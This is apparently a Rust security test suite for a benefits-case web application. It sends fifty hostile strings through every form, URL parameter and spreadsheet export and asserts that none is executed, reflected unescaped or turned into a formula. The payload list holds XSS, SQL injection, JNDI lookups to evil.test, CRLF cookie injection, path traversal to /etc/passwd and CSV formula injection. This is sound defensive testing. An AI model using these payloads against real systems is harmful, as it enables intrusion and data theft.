//! Fifty hostile strings in every field of every form, and in every query: harmless on
//! the page, kept as they are or refused with a sentence, never a fault.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may fail loudly")]

use crate::site;
use app::App;
use app::sign_in::Token;
use axum::Router;
use axum::http::StatusCode;
use kernel::{Role, *};
use site::family::{HOME, MUM, applied, family};
use site::staffed::resident;
use site::{ask, signed_in, text};
use std::collections::{BTreeMap, BTreeSet};
use store::testing;

/// What people with bad intentions, and unlucky ones, type.
fn hostile() -> Vec<String> {
    let plain = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<!--#exec cmd=\"ls\"-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\" autofocus onfocus=alert(1) x=\"",
        "javascript:alert(1)",
        "{{7*7}}",
        "{% raw %}{{ page }}{% endraw %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil.test/a}",
        "' OR '1'='1",
        "'; DROP TABLE person; --",
        "\" UNION SELECT password FROM login_account --",
        "1; SELECT pg_sleep(10)",
        "%' AND 1=1 --",
        "\\'; DELETE FROM session; --",
        "$1",
        "?1",
        "x\r\nSet-Cookie: nx_session=evil",
        "x\r\n\r\n<script>alert(1)</script>",
        "x\nLocation: https://evil.test",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd\0.png",
        "file:///etc/passwd",
        "%2e%2e%2f%2e%2e%2f",
        "//evil.test/",
        "https://evil.test/",
        "=HYPERLINK(\"http://evil.test\",\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\u{202e}txt.exe",
        "\u{2066}admin\u{2069}",
        "\u{200b}\u{feff}",
        "\0",
        "a\0b",
        "\u{7}\u{8}\u{1b}[31m",
        "𠮷野家·阿卜杜拉👨‍👩‍👧",
    ];
    let mut all: Vec<String> = plain.iter().map(|text| (*text).to_owned()).collect();
    all.push("长".repeat(20_000));
    all.push("9".repeat(400));
    assert_eq!(all.len(), 50);
    all
}

/// A form as a page draws it.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
struct Form {
    method: String,
    action: String,
    fields: BTreeMap<String, String>,
    /// Those a person types into.
    typed: BTreeSet<String>,
}

fn attribute(tag: &str, name: &str) -> Option<String> {
    let found = tag.split(&format!(" {name}=\"")).nth(1)?;
    Some(found.split('"').next().unwrap().to_owned())
}

/// Every form of a page, but those every page has.
fn forms(page: &str, here: &str) -> Vec<Form> {
    let read = |part: &str| {
        let (body, _) = part.split_once("</form>").unwrap_or((part, ""));
        let tag = body.split('>').next().unwrap();
        let (mut fields, mut typed) = (BTreeMap::new(), BTreeSet::new());
        for piece in body.split('<').skip(1) {
            let (tag, _) = piece.split_once('>').unwrap_or((piece, ""));
            let kind = tag.split([' ', '\n']).next().unwrap();
            let Some(name) = attribute(tag, "name") else {
                continue;
            };
            let value = attribute(tag, "value").unwrap_or_default();
            let type_of = attribute(tag, "type").unwrap_or_default();
            if kind == "textarea"
                || (kind == "input"
                    && matches!(
                        type_of.as_str(),
                        "" | "text" | "search" | "password" | "tel"
                    ))
            {
                typed.insert(name.clone());
            }
            if matches!(kind, "input" | "textarea" | "select" | "button") {
                fields.insert(name, value.replace("&#34;", "\""));
            }
        }
        Form {
            method: attribute(tag, "method")
                .unwrap_or("get".into())
                .to_uppercase(),
            action: attribute(tag, "action").unwrap_or(here.to_owned()),
            fields,
            typed,
        }
    };
    let found = page.split("<form").skip(1).map(read);
    found
        .filter(|form| !["/sign-out", "/look"].contains(&form.action.as_str()))
        .collect()
}

fn encoded(fields: &BTreeMap<String, String>) -> String {
    serde_urlencoded::to_string(fields).unwrap()
}

/// What an answer may never be.
fn faults(status: StatusCode, head: &str, page: &str, text: &str, what: &str) -> Vec<String> {
    let mut faults = Vec::new();
    // This house has no paying desk, and says so.
    let no_desk = status == StatusCode::SERVICE_UNAVAILABLE && what.contains(" /desk/pay");
    if status.is_server_error() && !no_desk {
        faults.push(format!("{status}: {what}"));
    }
    // What could be read as markup stands nowhere as it was typed.
    let is_markup = text.contains('<') || text.contains("\" ") || text.contains("'>");
    if is_markup && page.contains(text) {
        faults.push(format!("unescaped: {what}"));
    }
    if head.contains("evil") && !head.starts_with("/sign-in?") && !head.starts_with('/') {
        faults.push(format!("leads away to {head}: {what}"));
    }
    if page.contains("nx_session=evil\r\n") || (text == "{{7*7}}" && page.contains(">49<")) {
        faults.push(format!("evaluated: {what}"));
    }
    faults
}

async fn send(
    router: &Router,
    token: Option<&Token>,
    form: &Form,
    text_put: &str,
    into: &[&String],
) -> Vec<String> {
    let mut fields = form.fields.clone();
    for name in into {
        fields.insert((*name).clone(), text_put.to_owned());
    }
    let shown: String = text_put.chars().take(40).collect();
    let what = format!("{} {} {into:?} {shown:?}", form.method, form.action);
    let words = encoded(&fields);
    let answer = match form.method.as_str() {
        "GET" => {
            let path = form.action.split('?').next().unwrap();
            // A browser cannot send a longer address either.
            let words: String = words.chars().take(60_000).collect();
            ask(router, "GET", &format!("{path}?{words}"), token, "").await
        }
        _ => ask(router, "POST", &form.action, token, &words).await,
    };
    let status = answer.status();
    let head = answer.headers().get("location");
    let head = head.map(|to| String::from_utf8_lossy(to.as_bytes()).into_owned());
    assert_eq!(
        answer
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter(|c| c.to_str().is_ok_and(|c| c.contains("evil")))
            .count(),
        0,
        "{what}"
    );
    let page = text(answer).await;
    faults(status, &head.unwrap_or_default(), &page, text_put, &what)
}

/// Pages that have forms, by who looks.
fn pages(case: CaseId) -> Vec<(&'static str, String)> {
    let mut pages: Vec<(&str, String)> = Vec::new();
    for path in ["/sign-in", "/check", "/"] {
        pages.push(("", path.to_owned()));
    }
    for path in [
        "/check",
        "/check/wrong",
        "/apply",
        "/apply/answers",
        "/apply/look",
        "/cases",
        "/passkeys",
        "/prove?back=/",
        "/three",
        "/xingfu",
    ] {
        pages.push(("mum", path.to_owned()));
    }
    for path in ["", "/sent", "/appeal"] {
        pages.push(("mum", format!("/cases/{case}{path}")));
    }
    for who in ["town", "county", "village"] {
        pages.push((who, format!("/desk/cases/{case}")));
        pages.push((who, format!("/desk/households/{HOME}?case={case}")));
        for path in [
            "/desk/cases",
            "/desk/found",
            "/desk/tokens",
            "/desk",
            "/prove?back=/",
        ] {
            pages.push((who, path.to_owned()));
        }
        for act in [
            "accept",
            "supplement",
            "refuse",
            "survey",
            "review",
            "withdraw",
        ] {
            pages.push((who, format!("/desk/cases/{case}?act={act}")));
        }
    }
    pages.push(("county", "/desk/cases/export".to_owned()));
    pages.push(("finance", "/desk/pay".to_owned()));
    pages
}

/// Every parameter an address knows.
const QUERY: &[&str] = &[
    "back",
    "q",
    "service",
    "stage",
    "due",
    "home",
    "case",
    "finding",
    "kept",
    "act",
    "size",
    "contrast",
    "dark",
    "row",
    "fact",
    "want",
    "month",
    "page",
    "benefit",
    "state",
    "code",
    "ticketId",
    "redirectUrl",
    "household",
    "region",
];

async fn sessions(app: &App) -> BTreeMap<&'static str, Option<Token>> {
    BTreeMap::from([
        ("", None),
        ("mum", Some(resident(app, "mum", MUM, Role::Citizen).await)),
        ("town", Some(signed_in(app, Role::TownOfficer).await)),
        ("county", Some(signed_in(app, Role::CountyApprover).await)),
        ("village", Some(signed_in(app, Role::VillageWorker).await)),
        ("finance", Some(signed_in(app, Role::Finance).await)),
    ])
}

#[tokio::test]
async fn fifty_hostile_strings_do_nothing_in_any_form() {
    testing::both(async |db| {
        let (router, app) = site::site_with(db, |site| site.unpaced()).await;
        family(&app).await;
        let case = applied(&app).await;
        let sessions = sessions(&app).await;
        let mut found: BTreeSet<(&str, Form)> = BTreeSet::new();
        for (who, path) in pages(case) {
            let token = sessions[who].as_ref();
            let page = text(ask(&router, "GET", &path, token, "").await).await;
            for mut form in forms(&page, &path) {
                // A key of its own each time the page is drawn: one form is enough.
                form.fields.remove("request");
                found.insert((who, form));
            }
        }
        let (mut sent, mut wrong) = (0, Vec::new());
        for (who, form) in &found {
            let token = sessions[who].as_ref();
            let all: Vec<&String> = form.fields.keys().collect();
            for text in hostile() {
                for into in form.typed.iter().map(|name| vec![name]) {
                    wrong.extend(send(&router, token, form, &text, &into).await);
                    sent += 1;
                }
                wrong.extend(send(&router, token, form, &text, &all).await);
                sent += 1;
            }
        }
        let actions: BTreeSet<&str> = found.iter().map(|(_, form)| form.action.as_str()).collect();
        println!(
            "{} forms ({actions:?}), {sent} sent, {} wrong",
            found.len(),
            wrong.len()
        );
        assert!(wrong.is_empty(), "{wrong:#?}");
        assert!(found.len() >= 12 && sent > 1_000, "{} {sent}", found.len());
    })
    .await;
}

#[tokio::test]
async fn fifty_hostile_strings_do_nothing_in_any_address() {
    testing::both(async |db| {
        let (router, app) = site::site_with(db, |site| site.unpaced()).await;
        family(&app).await;
        let case = applied(&app).await;
        let sessions = sessions(&app).await;
        let (mut sent, mut wrong) = (0, Vec::new());
        for route in web::route_lines()
            .iter()
            .filter(|route| route.method == "GET")
        {
            let path = route
                .path
                .replace("{case}", &case.to_string())
                .replace("{household}", &HOME.to_string());
            let who = match path.split('/').nth(1) {
                Some("desk") if path.contains("pay") => "finance",
                Some("desk") => "county",
                Some("cases" | "check" | "apply" | "three" | "xingfu" | "passkeys" | "prove") => {
                    "mum"
                }
                _ => "",
            };
            for text_put in hostile() {
                let fields = QUERY
                    .iter()
                    .map(|name| ((*name).to_owned(), text_put.clone()));
                let form = Form {
                    method: "GET".into(),
                    action: path.split('{').next().unwrap().to_owned()
                        + path.split_once('{').map_or("", |_| "1"),
                    fields: BTreeMap::new(),
                    typed: BTreeSet::new(),
                };
                // A hostile word where the address has a gap, and in every parameter.
                let gap: String = text_put.chars().take(200).collect();
                let gap = serde_urlencoded::to_string([("", gap)]).unwrap();
                let in_gap = Form {
                    action: path.split('{').next().unwrap().to_owned()
                        + &gap[1..].replace('+', "%20"),
                    ..form.clone()
                };
                let token = sessions[who].as_ref();
                let names: Vec<String> = fields.map(|(name, _)| name).collect();
                // One at a time where the text is short, all at once where an address would be too long.
                let short: String = text_put.chars().take(1_500).collect();
                let all: Vec<&String> = names.iter().collect();
                wrong.extend(send(&router, token, &form, &short, &all).await);
                sent += 1;
                if route.path.contains('{') {
                    wrong.extend(send(&router, token, &in_gap, "", &[]).await);
                    sent += 1;
                }
            }
        }
        println!("{sent} addresses asked, {} wrong", wrong.len());
        assert!(wrong.is_empty(), "{wrong:#?}");
        assert!(sent > 1_000);
    })
    .await;
}

#[tokio::test]
async fn what_is_kept_is_read_back_as_it_was_or_refused_with_a_sentence() {
    testing::both(async |db| {
        let (router, app) = site::site_with(db, |site| site.unpaced()).await;
        let town = signed_in(&app, Role::TownOfficer).await;
        let visitor = app.visitor(&town).await.unwrap().unwrap();
        let ctx = visitor.acts(engine_access::Purpose::Administration, "");
        let (mut kept, mut refused) = (0, 0);
        for text_put in hostile() {
            let before = app.own_tokens(&ctx).await.unwrap().len();
            let fields = [
                ("note", text_put.as_str()),
                ("days", "3"),
                ("scope", "cases:read"),
            ];
            let words = serde_urlencoded::to_string(fields).unwrap();
            let answer = ask(&router, "POST", "/desk/tokens", Some(&town), &words).await;
            let status = answer.status();
            let page = text(answer).await;
            let held = app.own_tokens(&ctx).await.unwrap();
            if status == StatusCode::OK {
                assert_eq!(held.len(), before + 1);
                assert_eq!(held.last().unwrap().note, text_put.trim(), "{text_put:?}");
                kept += 1;
            } else {
                assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{text_put:?}");
                assert_eq!(held.len(), before);
                let told = ["role=\"alert\"", "看不见的坏字符"];
                assert!(
                    told.iter().any(|words| page.contains(words)),
                    "{text_put:?}"
                );
                refused += 1;
            }
        }
        println!("{kept} kept as they were, {refused} refused with a sentence");
        assert!(kept > 30);
    })
    .await;
}

/// What the cells of a file hold when it is read again.
fn read_back(file: &str, bytes: Vec<u8>) -> Vec<Vec<String>> {
    use calamine::{Data, Reader as _, Xlsx};
    if file == "csv" {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes.as_slice());
        let rows = reader.records().map(|row| {
            let row = row.unwrap();
            row.iter().map(str::to_owned).collect()
        });
        return rows.collect();
    }
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    assert!(book.worksheet_formula(&name).unwrap().is_empty());
    let sheet = book.worksheet_range(&name).unwrap();
    let text = |cell: &Data| match cell {
        Data::String(text) => text.clone(),
        Data::Empty => String::new(),
        other => panic!("a cell that is no text: {other:?}"),
    };
    sheet
        .rows()
        .map(|row| row.iter().map(text).collect())
        .collect()
}

#[test]
fn fifty_hostile_strings_are_text_in_every_cell_of_every_file() {
    for text in hostile() {
        let table = app::table::Table {
            name: "办件",
            note: text.clone(),
            columns: vec![text.clone(), "平常".to_owned()],
            rows: vec![vec![text.clone(), "平常".to_owned()]],
        };
        for (file, _) in app::table::FILES {
            let rows = read_back(file, table.write(file).unwrap());
            let cells = rows.iter().flat_map(|row| row.iter());
            for cell in cells {
                let bare = cell.trim_start_matches(['\u{feff}', '\u{200b}', ' ']);
                let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];
                assert!(!bare.starts_with(starts), "{file}: {cell:?} of {text:?}");
            }
            assert!(rows.len() >= 2, "{file}: {rows:?}");
        }
    }
}
